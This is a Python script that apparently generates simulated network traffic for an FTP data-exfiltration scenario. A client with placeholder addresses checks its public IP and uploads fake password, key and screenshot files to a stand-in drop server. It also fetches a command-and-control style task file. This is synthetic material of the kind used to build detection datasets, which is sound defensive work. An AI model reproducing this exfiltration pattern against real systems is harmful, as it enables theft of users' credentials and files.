"""Exfiltration over FTP: the machine asks for its public address, then uploads in passive and active mode."""

from wire.dns import Resolver, Type
from wire.lan import Lan
from wire.packets import Host
from wire.story import MILLISECOND, SECOND, Story
from wire.tcp import TcpConversation
from wire.text import lines
from wire.tls import Secure, Version

LOOKUP_NAME, LOOKUP_IP = "ip-lookup.example.org", "198.51.100.75"
FTP_NAME, FTP_IP = "ftp.dropzone.example", "203.0.113.21"
RTT = 70 * MILLISECOND
FTP_DATA_PORT = 20


def tell() -> Story:
    """Client 10.1.27.101, name server 10.1.27.1, FTP server 203.0.113.21."""
    story = Story("ftp-exfiltration", "2024-01-27T23:59:41")
    lan = Lan(story, "10.1.27", 101)
    dns = Resolver(story, lan.client, lan.gateway)
    story.resolve_mac(0, lan.client, lan.gateway)
    lan.netbios_query(100 * MILLISECOND, "WORKGROUP", 0x1D)
    lan.ssdp_search(11 * SECOND, 2)

    done = dns.address(SECOND, LOOKUP_NAME, LOOKUP_IP)
    dns.lookup(SECOND + 500, LOOKUP_NAME, qtype=Type.AAAA, zone="example.org")
    tcp = TcpConversation(story, lan.client, lan.remote(LOOKUP_IP), 443, done + MILLISECOND).open()
    Secure(tcp, LOOKUP_NAME, Version.TLS13).handshake().client(190).server(420).close()

    dns.address(3 * SECOND, FTP_NAME, FTP_IP)
    server = lan.remote(FTP_IP, 44)
    _passive(story, lan.client, server)
    _active(story, lan.client, server)
    dns.address(40 * SECOND, "telemetry.microsoft.example.com", "192.0.2.61")
    lan.ping(41 * SECOND, lan.remote("192.0.2.61"), 1)
    return story


def _log_in(control: TcpConversation) -> None:
    control.open().server(
        lines("220-Welcome to Example FTP", "220-You are user 3 of 50", "220 Local time is 23:59")
    )
    control.client(lines("USER drop@dropzone.example")).server(lines("331 Password required for drop"))
    control.client(lines("PASS not-a-secret")).server(lines("230 OK. Current directory is /"))
    control.client(lines("OPTS utf8 on")).server(lines("504 Unknown command"))
    control.client(lines("PWD")).server(lines('257 "/" is your current location'))
    control.client(lines("TYPE I")).server(lines("200 TYPE is now 8-bit binary"))


def _endpoint(ip: str, port: int) -> str:
    """Address and port as PASV and PORT spell them (RFC 959 section 4.1.2)."""
    return f"{ip.replace('.', ',')},{port >> 8},{port & 255}"


def _loot(name: str, rows: int) -> bytes:
    return lines(
        f"== {name} ==", *(f"https://site{i}.example.com/\tuser{i}\tpassword-{i * 7919}" for i in range(rows))
    )


def _upload(control: TcpConversation, data: TcpConversation, name: str, content: bytes) -> None:
    """STOR, the preliminary reply, the content on an open data connection, the completion reply."""
    control.now = max(control.now, data.now)
    control.client(lines(f"STOR {name}")).server(lines("150 Accepted data connection")).client_ack()
    data.now = max(control.now, data.now) + 100
    data.client(content) if data.server_side.host.remote else data.server(content)
    data.close(by_client=data.server_side.host.remote)
    control.now = max(control.now, data.now) + 5 * MILLISECOND
    control.server(lines("226-File successfully transferred", "226 0.2 seconds"))


def _passive(story: Story, client: Host, server: Host) -> None:
    """Two uploads, a listing and a download, each on the port that the server names."""
    control = TcpConversation(story, client, server, 21, 3100 * MILLISECOND, rtt=RTT)
    _log_in(control)
    for name, port, rows in (("PW_user-DESKTOP_2024_01_27.html", 61244, 80), ("keys.txt", 49999, 3)):
        control.client(lines("PASV"))
        control.server(lines(f"227 Entering Passive Mode ({_endpoint(server.ip, port)})")).client_ack()
        isn = 0xFFFFF800 if rows > 50 else None
        data = TcpConversation(
            story, client, server, port, control.now + MILLISECOND, rtt=RTT, isn=isn
        ).open()
        _upload(control, data, name, _loot(name, rows))
    control.client(lines("EPSV")).server(lines("229 Extended Passive mode OK (|||55111|)")).client_ack()
    listing = TcpConversation(story, client, server, 55111, control.now + MILLISECOND, rtt=RTT).open()
    control.now = listing.now
    control.client(lines("LIST")).server(lines("150 Accepted data connection")).client_ack()
    listing.now = control.now + 200
    listing.server(lines("-rw-r--r--    1 1001  33    4870 Jan 27 23:59 PW_user-DESKTOP_2024_01_27.html"))
    listing.close(by_client=False)
    control.now = max(control.now, listing.now) + MILLISECOND
    control.server(lines("226-Options: -l", "226 1 matches total")).client_ack()
    control.pause(SECOND).client(lines("QUIT")).server(lines("221 Logout."))
    control.close(by_client=False)


def _active(story: Story, client: Host, server: Host) -> None:
    """An upload and a download in active mode: the server connects from port 20."""
    control = TcpConversation(story, client, server, 21, 20 * SECOND, rtt=RTT)
    _log_in(control)
    data = _port(story, control, client, server, 50123)
    _upload(control, data, "screen.jpeg", bytes(range(256)) * 14)
    data = _port(story, control, client, server, 50124)
    control.now = data.now
    control.client(lines("RETR task.txt")).server(
        lines("150 Opening BINARY mode data connection"),
    ).client_ack()
    data.now = control.now + 200
    data.client(lines("task=wait")).close()
    control.now = max(control.now, data.now) + MILLISECOND
    control.server(lines("226 Transfer complete")).client_ack()
    control.client(lines("DELE missing.txt")).server(lines("550 missing.txt: No such file")).client_ack()
    control.pause(2 * SECOND).reset()


def _port(story: Story, control: TcpConversation, client: Host, server: Host, port: int) -> TcpConversation:
    """PORT, its reply, and the connection that the server opens to that port."""
    control.client(lines(f"PORT {_endpoint(client.ip, port)}")).server(
        lines("200 PORT command successful")
    ).client_ack()
    start = control.now + RTT
    return TcpConversation(story, server, client, port, start, client_port=FTP_DATA_PORT, rtt=RTT).open()
